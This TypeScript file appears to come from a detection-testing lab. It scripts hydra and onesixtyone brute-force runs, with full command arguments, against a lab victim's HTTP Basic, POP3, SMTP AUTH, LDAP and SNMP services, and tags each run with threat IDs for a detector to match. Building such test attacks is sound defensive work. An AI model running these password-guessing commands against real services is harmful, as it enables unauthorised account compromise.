/**
 * hydra guessing passwords at the victim's services: HTTP Basic on the vulnerable app, POP3 and SMTP AUTH on Dovecot,
 * LDAP binds on OpenLDAP; onesixtyone guessing SNMP communities at net-snmp's agent.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ThreatFinding } from '#core/finding.ts';
import { type AttackLab, addresses } from './attack-lab.ts';
import type { Attack } from './attacks.ts';
import { ldapLogin, pop3Login, ports, snmpCommunity } from './victim-servers.ts';

const toPort = (port: number) => (f: ThreatFinding) => f.server.port === port;
const { victim } = addresses;

/** hydra's word list: 30 wrong passwords, then the right one. */
const passwordList = (lab: AttackLab, name: string, right: string): string => {
  const words = join(lab.dir, name);
  writeFileSync(words, `${[...Array.from({ length: 30 }, (_, i) => `guess${i}`), right].join('\n')}\n`);
  return words;
};

/**
 * hydra guessing `user`'s password at a service on the victim from a list of 30 wrong ones then `right`: four tasks,
 * stopping at the first hit (-f), no restore file (-I).
 */
const hydra = (
  lab: AttackLab,
  login: { user: string; right: string; list: string },
  port: number,
  ...service: string[]
): string => {
  const args = [
    '-l',
    login.user,
    '-P',
    passwordList(lab, login.list, login.right),
    '-t',
    '4',
    '-f',
    '-I',
    '-s',
    String(port),
    victim,
    ...service,
  ];
  // hydra gives up on a target at its first failed connect ("1 target did not resolve or could not be connected"),
  // which two busy cores running the whole suite produced (against HTTP, then LDAP; on 2026-11-28 twice in a row
  // against HTTP), with the guesses before it already sent and detected. Such a run is repeated, at most twice; any
  // other failure, or a third one, still fails.
  for (let attempt = 1; ; attempt++) {
    try {
      return lab.attacker.exec('hydra', args, { timeoutMs: 60_000 });
    } catch (error) {
      if (attempt >= 3 || !/could not be connected/.test(String(error))) throw error;
    }
  }
};

export const passwordAttacks: readonly Attack[] = [
  {
    // One socket, a v1 GetRequest for sysDescr.0 per community; the agent answers the right one only.
    name: 'onesixtyone: SNMP community guessing against snmpd (30 wrong communities, then the right one)',
    threats: ['db-auth-brute-force', 'cleartext-credentials'],
    matches: toPort(ports.snmp),
    run: (lab) =>
      lab.attacker.exec('onesixtyone', ['-c', passwordList(lab, 'communities.txt', snmpCommunity), victim], {
        timeoutMs: 60_000,
      }),
  },
  {
    name: 'hydra: HTTP Basic password guessing on /admin (30 wrong passwords, then the right one)',
    threats: ['http-auth-brute-force'],
    matches: toPort(ports.sqlmapTarget),
    run: (lab) =>
      hydra(
        lab,
        { user: 'admin', right: 'correct-horse', list: 'passwords.txt' },
        ports.sqlmapTarget,
        'http-get',
        '/admin',
      ),
  },
  {
    // hydra asks for CAPA first and, as Dovecot offers SASL PLAIN, guesses with AUTH PLAIN rather than USER/PASS.
    name: 'hydra: POP3 password guessing against Dovecot (30 wrong passwords, then the right one)',
    threats: ['db-auth-brute-force', 'cleartext-credentials'],
    matches: toPort(ports.pop3),
    run: (lab) =>
      hydra(
        lab,
        { user: pop3Login.user, right: pop3Login.password, list: 'pop3-passwords.txt' },
        ports.pop3,
        'pop3',
      ),
  },
  {
    name: 'hydra: LDAP simple-bind password guessing against OpenLDAP (30 wrong passwords, then the right one)',
    threats: ['db-auth-brute-force', 'cleartext-credentials'],
    matches: toPort(ports.ldap),
    // ldap3: LDAPv3 binds (hydra's ldap2 module binds with version 2, which slapd refuses as a protocol error).
    run: (lab) =>
      hydra(
        lab,
        { user: ldapLogin.user, right: ldapLogin.password, list: 'ldap-passwords.txt' },
        ports.ldap,
        'ldap3',
      ),
  },
  {
    // hydra's smtp module logs in with AUTH LOGIN: a 334 challenge for the user, one for the password, then 535.
    name: 'hydra: SMTP AUTH LOGIN password guessing against Dovecot submission (30 wrong passwords, then the right one)',
    threats: ['db-auth-brute-force', 'cleartext-credentials'],
    matches: toPort(ports.submission),
    run: (lab) =>
      hydra(
        lab,
        { user: pop3Login.user, right: pop3Login.password, list: 'smtp-passwords.txt' },
        ports.submission,
        'smtp',
      ),
  },
];
